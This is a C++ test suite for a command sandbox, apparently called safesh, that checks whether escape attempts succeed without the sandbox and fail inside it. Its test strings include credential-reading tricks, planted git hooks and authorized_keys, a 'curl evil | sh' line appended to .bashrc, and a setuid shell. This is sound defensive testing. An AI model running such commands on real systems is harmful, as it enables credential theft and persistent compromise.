// The escape suite: every attempt is run twice, first without the sandbox, where it must work
// (so the attempt is real), then in the sandbox, where it must fail.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <spawn.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <thread>

#include <nlohmann/json.hpp>

#include "exec/cgroup.h"
#include "exec/env.h"
#include "exec/launch_plan.h"
#include "exec/procs.h"
#include "pipeline/run_shell_command.h"
#include "sandbox/blocked_names.h"
#include "sandbox/blocked_scan.h"
#include "sandbox/bwrap.h"
#include "sandbox/doctor.h"
#include "sandbox/landlock.h"
#include "sandbox/root_map.h"
#include "support/requires.h"
#include "support/subprocess.h"
#include "support/temp_dir.h"
#include "util/file.h"

namespace safesh::sandbox {
namespace {

using pipeline::RunResult;
namespace fs = std::filesystem;

// The helper programs, where the build put them; the unprivileged run (run_unprivileged.sh)
// gives copies that the other user can reach.
std::string FromEnv(const char* name, const char* built) {
  const char* v = getenv(name);
  return v != nullptr && v[0] == '/' ? v : built;
}
// The helper the commands run: a copy in the test's folder (the build may lie in the host's
// /tmp, which the sandbox does not see), made by the fixture.
std::string g_helper;
std::string Helper() {
  return g_helper;
}

// Where the test's folders go: somewhere the sandbox sees (read-only) but that is none of its
// writable roots or its own temporary folders, as the user's files are. Under /tmp they would be
// out of sight inside, and every attempt on them would fail for that reason alone, proving
// nothing about the protection it means to test.
// As root, also somewhere every uid may enter: the command's root is another uid there
// (root_map.h), and a folder closed to it (/root) is out of its sight but for the roots.
std::string VisibleBase() {
  std::string shared;
  if (geteuid() == 0) {
    shared = "/var/lib/safesh-tests";
    mkdir(shared.c_str(), 0755);
  }
  for (const char* candidate : {static_cast<const char*>(getenv("HOME")),
                                static_cast<const char*>(getenv("PWD")), shared.c_str()}) {
    if (candidate == nullptr || candidate[0] != '/') continue;
    std::string real = util::RealPath(candidate);
    if (real.empty() || real == "/" || util::IsPathInside(real, "/tmp") ||
        util::IsPathInside(real, "/var/tmp") || util::IsPathInside(real, "/dev/shm") ||
        access(real.c_str(), W_OK) != 0 ||
        (geteuid() == 0 && !FirstClosedAncestor(real + "/x", {}).empty()))
      continue;
    return real;
  }
  return "";
}
std::string Confine() {
  return FromEnv("SAFESH_CONFINE", SAFESH_CONFINE);
}

// Each test runs through both launchers: bubblewrap, and Landlock with seccomp (where
// bubblewrap cannot run). What Landlock cannot enforce is skipped for it, by name, and listed in
// docs/architecture.md and in the result's sandbox reason.
class Escape : public ::testing::TestWithParam<std::string> {
 protected:
  bool landlock() const { return GetParam() == "landlock"; }

  void SetUp() override {
    if (landlock()) {
      std::string why;
      if (LandlockAbi(&why) < 1) {
        SAFESH_SKIP_MISSING(why);
      }
    } else {
      std::string why = ProbeBwrap(FindBwrap(), false);
      if (!why.empty()) {
        SAFESH_SKIP_MISSING(why);
      }
    }
    std::string base = VisibleBase();
    ASSERT_FALSE(base.empty()) << "needs a writable HOME (or working folder) outside /tmp";
    std::string t = base + "/.safesh-escape-XXXXXX";
    ASSERT_NE(mkdtemp(t.data()), nullptr) << strerror(errno);
    dir_ = t;
    // Open to every uid, as a user's files mostly are: as root, the command's root is another
    // uid (root_map.h), and a 0700 folder would hide the helper and the test's home from it.
    ASSERT_EQ(chmod(dir_.c_str(), 0755), 0);
    g_helper = FromEnv("SAFESH_ESCAPE_HELPER", "");
    if (g_helper.empty()) {
      g_helper = dir_ + "/escape_helper";
      fs::copy_file(SAFESH_ESCAPE_HELPER, g_helper);
    }
    home_ = dir_ + "/home";
    ws_ = dir_ + "/ws";
    fs::create_directories(home_ + "/.ssh");
    fs::create_directories(ws_ + "/.git");
    std::ofstream(home_ + "/.ssh/id_ed25519") << "PRIVATE-KEY-" << getpid() << "\n";
    std::ofstream(ws_ + "/.git/config") << "[core]\n";
    context_.workspace = ws_;
    context_.home = home_;
    context_.spool_base = dir_ + "/state/safesh/spool";
    // The commands' HOME is the test's home: `~` in an attempt must never reach the real one
    // (without the sandbox the attempts succeed, by design).
    for (std::string_view v : exec::CurrentEnvironment()) {
      if (!v.starts_with("HOME=")) env_.emplace_back(v);
    }
    env_.push_back("HOME=" + home_);
    for (const std::string& v : env_)
      context_.environment.emplace_back(v);
    context_.prompter = [](const approval::ApprovalRequest&) { return approval::Answer::kApprove; };
    if (landlock()) context_.launcher = "landlock";
    context_.confine = UsableConfine();
  }
  // safesh does not rely on a safesh-confine that lies in a writable root (a command could
  // replace it), and a build in /tmp (a fresh clone there) is in one: such a build's copy is
  // made in a private folder of the home, which the sandbox does not make writable.
  std::string UsableConfine() {
    std::string built = util::RealPath(Confine());
    auto writable = [](const std::string& p) {
      const char* t = getenv("TMPDIR");
      return util::IsPathInside(p, "/tmp") || util::IsPathInside(p, "/var/tmp") ||
             (t != nullptr && t[0] == '/' && util::IsPathInside(p, util::RealPath(t)));
    };
    const char* home = getenv("HOME");
    if (built.empty() || !writable(built) || home == nullptr || home[0] != '/' ||
        writable(util::RealPath(home))) {
      return Confine();
    }
    std::string tmpl = std::string(home) + "/.safesh-test-confine-XXXXXX";
    if (mkdtemp(tmpl.data()) == nullptr) return Confine();
    confine_dir_ = tmpl;
    fs::copy_file(built, confine_dir_ + "/safesh-confine");
    // Executable by every uid: as root, the command's root is another uid (root_map.h).
    fs::permissions(confine_dir_ + "/safesh-confine",
                    fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                        fs::perms::others_read | fs::perms::others_exec);
    return confine_dir_ + "/safesh-confine";
  }

  void TearDown() override {
    if (!confine_dir_.empty()) fs::remove_all(confine_dir_);
    if (!dir_.empty()) fs::remove_all(dir_);
  }

  RunResult Run(const std::string& command, const std::string& mode) {
    context_.settings.sandbox.shell = mode;
    pipeline::RunRequest r;
    r.command = command;
    r.timeout_seconds = 20;
    return pipeline::RunShellCommand(r, context_);
  }

  // The attempt works without the sandbox (its output contains `success`) and not within it.
  void ExpectBlocked(const std::string& command, const std::string& success,
                     const std::function<void()>& reset = nullptr) {
    // `reset` clears what earlier runs left, before each attempt: bubblewrap leaves empty,
    // read-only mount points for masked names that did not exist (root writes to them anyway;
    // an ordinary user cannot).
    if (reset) reset();
    RunResult off = Run(command, "off");
    ASSERT_EQ(off.sandbox_mode, "off");
    ASSERT_NE(off.output.find(success), std::string::npos)
        << "the attempt does not work even without the sandbox: " << command << "\n"
        << off.output;
    if (reset) reset();
    RunResult in = Run(command, "required");
    ASSERT_EQ(in.sandbox_mode, GetParam()) << in.error;
    EXPECT_EQ(in.output.find(success), std::string::npos)
        << "escaped the sandbox: " << command << "\n"
        << in.output;
  }

  std::string dir_, home_, ws_;
  std::string confine_dir_;
  std::vector<std::string> env_;  // the commands' environment (context_.environment views it)  // a
                                  // copy of safesh-confine outside the writable roots, if made
  pipeline::RunContext context_;
};

TEST_P(Escape, WriteOutsideTheRoots) {
  // The real home folder: writable by whoever runs the tests, and not a root of the sandbox
  // (the sandbox's home here is a temporary one).
  const char* real_home = getenv("HOME");
  if (real_home == nullptr || real_home[0] != '/' || std::string(real_home).starts_with("/tmp"))
    GTEST_SKIP() << "needs a HOME outside /tmp";
  std::string target = std::string(real_home) + "/.safesh-escape-" + std::to_string(getpid());
  ExpectBlocked("echo x > " + target + " && echo WROTE", "WROTE", [&] { fs::remove(target); });
  EXPECT_FALSE(fs::exists(target));
  // The failure says which path and what setting would allow it.
  RunResult failed = Run("echo x > " + target, "required");
  EXPECT_NE(failed.advice.find("`" + target + "`"), std::string::npos) << failed.advice;
  EXPECT_NE(failed.advice.find("writable_paths"), std::string::npos) << failed.advice;
  // Inside the workspace writing works.
  RunResult in = Run("echo x > inside && echo WROTE", "required");
  EXPECT_EQ(in.output, "WROTE\n");
}

TEST_P(Escape, ReadABlockedPathEveryWay) {
  if (landlock())
    GTEST_SKIP()
        << "Landlock cannot enforce this (documented): hiding a path inside a readable tree";
  std::string key = home_ + "/.ssh/id_ed25519";
  for (const std::string& how :
       {"cat " + key, "cat " + ws_ + "/../home/.ssh/id_ed25519", "cat /proc/self/root" + key,
        "ln -s " + key + " link && cat link", "cd " + home_ + " && cat .ssh/id_ed25519",
        "cat $(ls -d " + home_ + "/.ssh)/*"}) {
    ExpectBlocked(how, "PRIVATE-KEY", [&] { fs::remove(ws_ + "/link"); });
    fs::remove(ws_ + "/link");
  }
  // Through /proc/PID/cwd of a host process whose working directory is the blocked folder.
  pid_t host = fork();
  ASSERT_GE(host, 0);
  if (host == 0) {
    if (chdir((home_ + "/.ssh").c_str()) != 0) _exit(1);
    execl("/bin/sleep", "sleep", "30", static_cast<char*>(nullptr));
    _exit(1);
  }
  usleep(100 * 1000);
  ExpectBlocked("cat /proc/" + std::to_string(host) + "/cwd/id_ed25519", "PRIVATE-KEY");
  kill(host, SIGKILL);
  waitpid(host, nullptr, 0);
  // A hard link made inside the sandbox does not reach the file either.
  RunResult in = Run("ln " + key + " hard 2>&1; cat hard 2>&1", "required");
  EXPECT_EQ(in.output.find("PRIVATE-KEY"), std::string::npos) << in.output;
}

// Credentials that earlier lists missed, where credential scanners look for them: in the home
// folder (git's XDG credentials, database and vault tokens, registries, histories, an agent's
// login) and in the workspace (cloud credentials, infrastructure state).
TEST_P(Escape, SecretsWhereScannersLookForThemAreHidden) {
  if (landlock())
    GTEST_SKIP()
        << "Landlock cannot enforce this (documented): hiding a path inside a readable tree";
  std::vector<std::string> files = {home_ + "/.config/git/credentials",
                                    home_ + "/.pgpass",
                                    home_ + "/.vault-token",
                                    home_ + "/.kaggle/kaggle.json",
                                    home_ + "/.config/containers/auth.json",
                                    home_ + "/.m2/settings.xml",
                                    home_ + "/.my.cnf",
                                    home_ + "/.bash_history",
                                    home_ + "/.claude.json",
                                    ws_ + "/credentials.json",
                                    ws_ + "/infra/terraform.tfstate"};
  for (const std::string& f : files) {
    fs::create_directories(fs::path(f).parent_path());
    std::ofstream(f) << "LEAKED-SECRET " << f << "\n";
  }
  for (const std::string& f : files)
    ExpectBlocked("cat " + f, "LEAKED-SECRET");
  for (const std::string& f : files)
    fs::remove(f);
}

// safesh's own state (approvals, the audit log, the spool) is hidden wherever XDG_STATE_HOME
// puts it, here inside a writable root.
TEST_P(Escape, SafeshStateIsHiddenWhereverItIs) {
  if (landlock())
    GTEST_SKIP()
        << "Landlock cannot enforce this (documented): hiding a path inside a readable tree";
  std::string state = dir_ + "/xdg-state";
  fs::create_directories(state + "/safesh");
  std::ofstream(state + "/safesh/approvals.json") << "APPROVALS-" << getpid() << "\n";
  const char* was = getenv("XDG_STATE_HOME");
  std::string old = was != nullptr ? was : "";
  setenv("XDG_STATE_HOME", state.c_str(), 1);
  ExpectBlocked("cat " + state + "/safesh/approvals.json", "APPROVALS-");
  if (was != nullptr) {
    setenv("XDG_STATE_HOME", old.c_str(), 1);
  } else {
    unsetenv("XDG_STATE_HOME");
  }
}

// With the home folder writable, a blocked name that does not exist yet cannot be made: a
// command must not plant ~/.ssh/authorized_keys or ~/.aws/credentials for later.
TEST_P(Escape, MissingBlockedPathsCannotBeCreated) {
  if (landlock())
    GTEST_SKIP()
        << "Landlock cannot enforce this (documented): a read-only path inside a writable root";
  context_.settings.sandbox.writable_paths = {home_};
  fs::remove_all(home_ + "/.ssh");
  auto reset = [&] {
    fs::remove_all(home_ + "/.ssh");
    fs::remove_all(home_ + "/.aws");
    fs::remove(home_ + "/.netrc");
  };
  ExpectBlocked("mkdir -p ~/.ssh && echo key >> ~/.ssh/authorized_keys && echo PLANTED", "PLANTED",
                reset);
  ExpectBlocked("mkdir -p ~/.aws && echo k > ~/.aws/credentials && echo PLANTED", "PLANTED", reset);
  ExpectBlocked("echo 'machine x password y' > ~/.netrc && echo PLANTED", "PLANTED", reset);
  // Other new files in the writable home are fine.
  RunResult in = Run("echo ok > ~/notes.txt && echo MADE", "required");
  EXPECT_EQ(in.output, "MADE\n") << in.error;
  // Only empty mount points are left on the host.
  EXPECT_FALSE(fs::exists(home_ + "/.ssh/authorized_keys"));
  EXPECT_FALSE(fs::exists(home_ + "/.aws/credentials"));
}

TEST_P(Escape, ProtectedGitNamesAndStartupFiles) {
  if (landlock())
    GTEST_SKIP()
        << "Landlock cannot enforce this (documented): a read-only path inside a writable root";
  ExpectBlocked("mkdir -p .git/hooks && echo 'touch pwned' > .git/hooks/pre-commit && echo MADE",
                "MADE", [&] { fs::remove_all(ws_ + "/.git/hooks"); });
  ExpectBlocked("echo '[core] fsmonitor = x' >> .git/config && echo CHANGED", "CHANGED");
  // The home folder made writable: its start-up files still are not.
  context_.settings.sandbox.writable_paths = {home_};
  ExpectBlocked("echo 'curl evil | sh' >> ~/.bashrc && echo CHANGED", "CHANGED",
                [&] { fs::remove(home_ + "/.bashrc"); });
  context_.settings.sandbox.allow_git_config = true;
  RunResult in = Run("echo '# ok' >> .git/config && echo CHANGED", "required");
  EXPECT_EQ(in.output, "CHANGED\n") << in.error;
}

// The repositories below the workspace root: a nested clone, a submodule (its .git a file
// naming its folder in the root's .git/modules) and a worktree (its folder names, in
// commondir, the repository that holds the hooks). Their hooks run outside the sandbox on the
// next commit or checkout there, as surely as the root's. (Their config is not protected:
// ProtectRepositories in spec.h says why.)
TEST_P(Escape, HooksOfNestedRepositoriesSubmodulesAndWorktrees) {
  if (landlock())
    GTEST_SKIP()
        << "Landlock cannot enforce this (documented): a read-only path inside a writable root";
  for (const std::string& git : {ws_ + "/libs/clone/.git", ws_ + "/sub/.git",
                                 ws_ + "/.git/modules/mod", dir_ + "/extra/main/.git"}) {
    fs::create_directories(git);
    std::ofstream(git + "/HEAD") << "ref: refs/heads/main\n";
  }
  fs::create_directories(ws_ + "/libs/clone/.git/hooks");
  std::ofstream(ws_ + "/libs/clone/.git/config") << "[core]\n";
  fs::create_directories(ws_ + "/sub/.git");
  fs::create_directories(ws_ + "/.git/modules/mod/hooks");
  std::ofstream(ws_ + "/.git/modules/mod/config") << "[core]\n";
  fs::create_directories(ws_ + "/mod");
  std::ofstream(ws_ + "/mod/.git") << "gitdir: ../.git/modules/mod\n";
  fs::create_directories(dir_ + "/extra/main/.git/hooks");
  fs::create_directories(dir_ + "/extra/main/.git/worktrees/wt");
  std::ofstream(dir_ + "/extra/main/.git/worktrees/wt/commondir") << "../..\n";
  fs::create_directories(ws_ + "/wt");
  std::ofstream(ws_ + "/wt/.git") << "gitdir: " << dir_ << "/extra/main/.git/worktrees/wt\n";
  // The worktree's repository: in a writable folder that is not itself a root (whose .git
  // would be protected as the workspace's is), nor scanned; only its worktree leads to it.
  context_.settings.sandbox.writable_paths = {dir_ + "/extra"};
  auto no_hook = [&](const std::string& dir) {
    return [dir] {
      std::error_code ec;
      fs::remove(dir + "/pre-commit", ec);
    };
  };
  ExpectBlocked("echo 'touch pwned' > libs/clone/.git/hooks/pre-commit && echo MADE", "MADE",
                no_hook(ws_ + "/libs/clone/.git/hooks"));
  ExpectBlocked(
      "mkdir -p sub/.git/hooks && echo 'touch pwned' > sub/.git/hooks/pre-commit && "
      "echo MADE",
      "MADE", [&] { fs::remove_all(ws_ + "/sub/.git/hooks"); });
  ExpectBlocked("echo 'touch pwned' > .git/modules/mod/hooks/pre-commit && echo MADE", "MADE",
                no_hook(ws_ + "/.git/modules/mod/hooks"));
  ExpectBlocked("echo 'touch pwned' > " + dir_ + "/extra/main/.git/hooks/pre-commit && echo MADE",
                "MADE", no_hook(dir_ + "/extra/main/.git/hooks"));
  // Everything else in them stays writable: git itself works there.
  RunResult in =
      Run("echo x > libs/clone/.git/objects-x && echo ref > .git/modules/mod/HEAD && "
          "echo MADE",
          "required");
  EXPECT_EQ(in.output, "MADE\n") << in.error;
}

TEST_P(Escape, Network) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(listen(s, 16), 0);
  socklen_t len = sizeof a;
  getsockname(s, reinterpret_cast<sockaddr*>(&a), &len);
  std::string port = std::to_string(ntohs(a.sin_port));
  ExpectBlocked("exec 3<>/dev/tcp/127.0.0.1/" + port + " && echo CONNECTED", "CONNECTED");
  ExpectBlocked("echo x > /dev/udp/127.0.0.1/" + port + " && echo SENT", "SENT");
  ExpectBlocked(Helper() + " inet", "ok");
  close(s);
  context_.settings.sandbox.allow_network = true;
  RunResult in = Run(Helper() + " inet", "required");
  EXPECT_EQ(in.output, "ok\n");
}

// A listening UNIX socket of the host at `path` (the test process is the "host" program).
struct HostSocket {
  explicit HostSocket(const std::string& p) : path(p) {
    fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    snprintf(a.sun_path, sizeof a.sun_path, "%s", path.c_str());
    ok = fd >= 0 && bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 && listen(fd, 64) == 0;
  }
  ~HostSocket() {
    if (fd >= 0) close(fd);
    unlink(path.c_str());
  }
  std::string path;
  int fd = -1;
  bool ok = false;
};

// No host UNIX socket is reachable unless [sandbox] allow_unix_sockets names it, wherever it
// lies and whenever it was made: socket(AF_UNIX) itself is refused (seccomp.h), so nothing
// depends on a search finding it first. Among the places: those a search misses (deep below
// the host's /tmp, ~/.local/share, the workspace itself) and /run (read-only in the sandbox,
// like docker's and systemd's: a read-only mount does not stop connect()).
TEST_P(Escape, HostUnixSockets) {
  const std::string helper = Helper();
  fs::create_directories(dir_ + "/a/b/c/d");
  fs::create_directories(home_ + "/.local/share/app/run");
  fs::create_directories(ws_ + "/sub/dir");
  std::vector<std::string> paths = {dir_ + "/tmux-default", dir_ + "/a/b/c/d/deep.sock",
                                    home_ + "/.local/share/app/run/agent.sock",
                                    ws_ + "/sub/dir/dev.sock"};
  std::string run = "/run/safesh-escape-" + std::to_string(getpid()) + ".sock";
  if (access("/run", W_OK) == 0) paths.push_back(run);
  // In the host's /tmp (ssh-agent's, tmux's): out of sight, and bound in only when allowed.
  ::safesh::testing::TempDir host_tmp("/tmp");
  paths.push_back(host_tmp.path + "/agent.sock");
  for (const std::string& p : paths) {
    HostSocket host(p);
    ASSERT_TRUE(host.ok) << p << ": " << strerror(errno);
    ExpectBlocked(helper + " unix " + p, "ok");
  }
  // Around the filter: a family with high bits set (the kernel reads an int); a datagram
  // socketpair, which can sendto() any named socket.
  {
    HostSocket host(ws_ + "/high.sock");
    ExpectBlocked(helper + " unix_high " + host.path, "ok");
    std::string dgram = ws_ + "/log.sock";
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    snprintf(a.sun_path, sizeof a.sun_path, "%s", dgram.c_str());
    ASSERT_EQ(bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a), 0) << strerror(errno);
    ExpectBlocked(helper + " dgram_pair " + dgram, "ok");
    ExpectBlocked(helper + " raw_pair " + dgram, "ok");
    close(fd);
    unlink(dgram.c_str());
  }
  // One the host makes after the command started: nothing looked for it before.
  std::string late = ws_ + "/late.sock";
  for (std::string mode : {"off", "required"}) {
    std::thread maker([&] {
      usleep(300 * 1000);
      HostSocket host(late);
      usleep(3000 * 1000);
    });
    RunResult r = Run("for i in $(seq 50); do [ -S late.sock ] && break; sleep 0.1; done; " +
                          helper + " unix " + late,
                      mode);
    maker.join();
    if (mode == "off") {
      ASSERT_EQ(r.output, "ok\n") << "the attempt does not work without the sandbox";
    } else {
      EXPECT_EQ(r.output.find("ok\n"), std::string::npos) << r.output;
    }
  }
  if (landlock()) return;  // naming one lets commands make sockets; only mounts then hide others
  for (const std::string& p : paths) {
    HostSocket host(p);
    // Named in allow_unix_sockets (the socket, or its folder), it stays reachable, even in the
    // host's /tmp, which the sandbox otherwise does not see.
    // A folder is bound as it is (as root, not idmapped: root_map.h), so its sockets are
    // reached as other users may: a socket shared through a named folder is open to them.
    std::string folder = p.substr(0, p.rfind('/'));
    struct stat was;
    ASSERT_EQ(stat(folder.c_str(), &was), 0);
    if (geteuid() == 0) {
      chmod(p.c_str(), 0777);
      chmod(folder.c_str(), was.st_mode | 0005);
    }
    context_.settings.sandbox.allow_unix_sockets = {folder};
    EXPECT_EQ(Run(helper + " unix " + p, "required").output, "ok\n") << p;
    if (geteuid() == 0) {
      chmod(p.c_str(), 0755);
      chmod(folder.c_str(), was.st_mode & 07777);
    }
    context_.settings.sandbox.allow_unix_sockets = {p};
    EXPECT_EQ(Run(helper + " unix " + p, "required").output, "ok\n") << p;
    // Another socket where the search looks stays out of reach (masked: commands may make
    // sockets now). Only as good as the search: the workspace itself is not searched
    // (host_sockets.h), which is why naming nothing is the default.
    fs::create_directories(home_ + "/.docker/run");
    HostSocket other(home_ + "/.docker/run/docker.sock");
    EXPECT_NE(Run(helper + " unix " + other.path, "required").output, "ok\n");
    context_.settings.sandbox.allow_unix_sockets.clear();
  }
  if (geteuid() != 0) return;
  // As root: a folder named for its sockets gives no owner rights over the other files in it
  // (a 0600 login beside a session bus), which a sandbox keeping uid 0 reads.
  std::string folder = dir_ + "/run-user";
  fs::create_directories(folder);
  ASSERT_EQ(chmod(folder.c_str(), 0700), 0);
  HostSocket bus(folder + "/bus");
  std::ofstream(folder + "/auth.json") << "AUTH-SECRET\n";
  ASSERT_EQ(chmod((folder + "/auth.json").c_str(), 0600), 0);
  context_.settings.sandbox.allow_unix_sockets = {folder};
  context_.settings.sandbox.root_keeps_owner_rights = true;
  ASSERT_NE(Run("cat " + folder + "/auth.json", "required").output.find("AUTH-SECRET"),
            std::string::npos);
  context_.settings.sandbox.root_keeps_owner_rights = false;
  EXPECT_EQ(Run("cat " + folder + "/auth.json", "required").output.find("AUTH-SECRET"),
            std::string::npos);
  // And a home folder closed to others whose ~/.ssh is named for its agent's socket keeps the
  // keys beside it masked (the folder is bound into the emptied home).
  ASSERT_EQ(chmod(home_.c_str(), 0700), 0);
  HostSocket agent(home_ + "/.ssh/agent.sock");
  context_.settings.sandbox.allow_unix_sockets = {home_ + "/.ssh"};
  ExpectBlocked("cat " + home_ + "/.ssh/id_ed25519", "PRIVATE-KEY");
  context_.settings.sandbox.allow_unix_sockets.clear();
  ASSERT_EQ(chmod(home_.c_str(), 0755), 0);
}

// A link a command planted in a writable root never makes what it points to a root of the
// next command's sandbox: a relative writable_paths entry, or ~/.cache when the home folder is
// writable, made a link to a folder outside; as root also an allowed socket made a link to a
// host socket, and an allowed "socket" that is a 0600 file. Each of these bound what the link
// reached as the sandbox's own (writable; as root, idmapped: owner rights).
TEST_P(Escape, PlantedLinksNeverBecomeRootsOfTheNextSandbox) {
  std::string outside = dir_ + "/outside";
  fs::create_directories(outside);
  fs::create_symlink(outside, ws_ + "/out");
  context_.settings.sandbox.writable_paths = {"out"};
  ExpectBlocked("echo x > " + outside + "/pwn && echo WROTE", "WROTE",
                [&] { fs::remove(outside + "/pwn"); });
  context_.settings.sandbox.writable_paths = {home_};
  fs::create_symlink(outside, home_ + "/.cache");
  ExpectBlocked("echo x > " + outside + "/pwn2 && echo WROTE", "WROTE",
                [&] { fs::remove(outside + "/pwn2"); });
  fs::remove(home_ + "/.cache");  // a link the person made would be theirs: trusted
  // A link inside a writable root named after the entry (nested paths listed inner first), or
  // inside ~/.cache (made writable after the writable paths): checked against all of them.
  fs::create_directories(dir_ + "/shared");
  fs::create_symlink(outside, dir_ + "/shared/out");
  context_.settings.sandbox.writable_paths = {dir_ + "/shared/out", dir_ + "/shared"};
  ExpectBlocked("echo x > " + outside + "/pwn3 && echo WROTE", "WROTE",
                [&] { fs::remove(outside + "/pwn3"); });
  fs::create_directories(home_ + "/.cache");
  fs::create_symlink(outside, home_ + "/.cache/tool");
  context_.settings.sandbox.writable_paths = {"~/.cache/tool"};
  ExpectBlocked("echo x > " + outside + "/pwn4 && echo WROTE", "WROTE",
                [&] { fs::remove(outside + "/pwn4"); });
  fs::remove_all(home_ + "/.cache");
  context_.settings.sandbox.writable_paths.clear();
  // A link the person made outside the writable roots (~/.cache to a folder in the workspace),
  // whose target a command replaced with a link: the walk follows the target link by link.
  fs::create_symlink(ws_ + "/cachedir", home_ + "/.cache");
  fs::create_symlink(outside, ws_ + "/cachedir");
  ExpectBlocked("echo x > " + outside + "/pwn5 && echo WROTE", "WROTE",
                [&] { fs::remove(outside + "/pwn5"); });
  fs::remove(home_ + "/.cache");
  fs::remove(ws_ + "/cachedir");
  // The workspace itself reached through a link in a writable folder above it (a command renamed
  // the folder and left a link): nothing runs. The same link made outside every writable root
  // is the person's own, and the command runs there.
  fs::create_directories(outside + "/proj");
  fs::create_directories(dir_ + "/up");
  fs::create_symlink(outside, dir_ + "/up/code");
  std::string was = context_.workspace;
  context_.workspace = dir_ + "/up/code/proj";
  RunResult owned = Run("echo x > " + outside + "/proj/pwn6 && echo WROTE", "required");
  EXPECT_EQ(owned.output, "WROTE\n") << owned.error;
  fs::remove(outside + "/proj/pwn6");
  context_.settings.sandbox.writable_paths = {dir_ + "/up"};
  RunResult refused = Run("echo x > " + outside + "/proj/pwn6 && echo WROTE", "required");
  EXPECT_EQ(refused.outcome, RunResult::Outcome::kFailedToStart);
  EXPECT_NE(refused.error.find("reached through a link"), std::string::npos) << refused.error;
  EXPECT_FALSE(fs::exists(outside + "/proj/pwn6"));
  context_.workspace = was;
  context_.settings.sandbox.writable_paths.clear();
  // (Under the Landlock launcher every host socket is reachable once any is allowed: documented.)
  if (geteuid() != 0 || landlock()) return;
  ASSERT_EQ(chmod(outside.c_str(), 0700), 0);
  HostSocket host(outside + "/real.sock");
  ASSERT_TRUE(host.ok) << strerror(errno);
  fs::create_symlink(host.path, ws_ + "/app.sock");
  context_.settings.sandbox.allow_unix_sockets = {"app.sock"};
  ExpectBlocked(Helper() + " unix " + ws_ + "/app.sock", "ok");
  std::ofstream(outside + "/login.json") << "LOGIN-SECRET\n";
  ASSERT_EQ(chmod((outside + "/login.json").c_str(), 0600), 0);
  context_.settings.sandbox.allow_unix_sockets = {outside + "/login.json"};
  ExpectBlocked("cat " + outside + "/login.json", "LOGIN-SECRET");
  context_.settings.sandbox.allow_unix_sockets.clear();
}

// Sockets that reach nothing outside keep working: a socketpair always; a command's own
// listening socket once allow_unix_sockets names anything (socket(AF_UNIX) is then allowed).
TEST_P(Escape, SocketsOfTheCommandsOwn) {
  EXPECT_EQ(Run(Helper() + " unix_pair", "required").output, "ok\n");
  RunResult refused = Run(Helper() + " unix_own " + ws_ + "/own.sock", "required");
  EXPECT_NE(refused.output.find("socket"), std::string::npos) << refused.output;
  context_.settings.sandbox.allow_unix_sockets = {"/run/user/0/nothing-here"};
  EXPECT_EQ(Run(Helper() + " unix_own " + ws_ + "/own.sock", "required").output, "ok\n");
  context_.settings.sandbox.allow_unix_sockets.clear();
}

// No setuid or setgid bit can be set, by chmod or by open's mode: a root command could leave a
// setuid-root shell for another user to run (seccomp, in both launchers).
TEST_P(Escape, NoSetuidOrSetgidBits) {
  for (const char* how :
       {"setuid_open", "setuid_chmod", "setgid_chmod", "setuid_openat2", "setuid_fchmodat2"}) {
    std::string file = ws_ + "/planted-" + how;
    ExpectBlocked(Helper() + " " + how + " " + file, "ok", [&] { fs::remove(file); });
  }
  ExpectBlocked("cp /bin/sh planted && chmod 4755 planted && [ -u planted ] && echo SETUID",
                "SETUID", [&] { fs::remove(ws_ + "/planted"); });
  // Ordinary modes still work.
  EXPECT_EQ(Run("touch f && chmod 755 f && [ -x f ] && echo ok", "required").output, "ok\n");
}

// The host's /tmp is out of sight, and what a command leaves in its own /tmp stays there: shared
// with the workspace's later commands, not with the host or its other users.
TEST_P(Escape, TheHostsTemporaryFoldersAreOutOfSight) {
  if (landlock()) GTEST_SKIP() << "Landlock cannot enforce this (documented): a /tmp of its own";
  ::safesh::testing::TempDir host_tmp("/tmp");
  std::ofstream(host_tmp.path + "/host-tmp-file") << "HOST-TMP-" << getpid() << "\n";
  ExpectBlocked("cat " + host_tmp.path + "/host-tmp-file", "HOST-TMP-");
  std::string left = "/tmp/safesh-escape-left-" + std::to_string(getpid());
  RunResult off = Run("echo x > " + left + " && echo WROTE", "off");
  ASSERT_EQ(off.output, "WROTE\n");
  ASSERT_TRUE(fs::exists(left));
  fs::remove(left);
  RunResult in = Run("echo kept > " + left + " && echo WROTE", "required");
  EXPECT_EQ(in.output, "WROTE\n");
  EXPECT_FALSE(fs::exists(left)) << "a file the sandbox wrote to /tmp reached the host's";
  // The next command in the same workspace finds it (a background server and later commands
  // share /tmp), and its TMPDIR is that /tmp.
  EXPECT_EQ(Run("cat " + left + "; echo $TMPDIR", "required").output, "kept\n/tmp\n");
}

// The host's System V shared memory is out of reach (an IPC namespace of the sandbox's own).
TEST_P(Escape, HostSharedMemory) {
  if (landlock()) GTEST_SKIP() << "Landlock cannot enforce this (documented): an IPC namespace";
  int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
  ASSERT_GE(id, 0) << strerror(errno);
  void* p = shmat(id, nullptr, 0);
  ASSERT_NE(p, reinterpret_cast<void*>(-1));
  snprintf(static_cast<char*>(p), 4096, "SHM-SECRET-%d", getpid());
  ExpectBlocked(Helper() + " shm " + std::to_string(id), "SHM-SECRET");
  shmdt(p);
  shmctl(id, IPC_RMID, nullptr);
}

// /dev/shm is a tmpfs of the sandbox's own, no larger than the memory limit: writing there
// cannot escape the limit through the host's /dev/shm.
TEST_P(Escape, DevShmIsSized) {
  if (landlock())
    GTEST_SKIP() << "Landlock cannot enforce this (documented): a /dev/shm of its own";
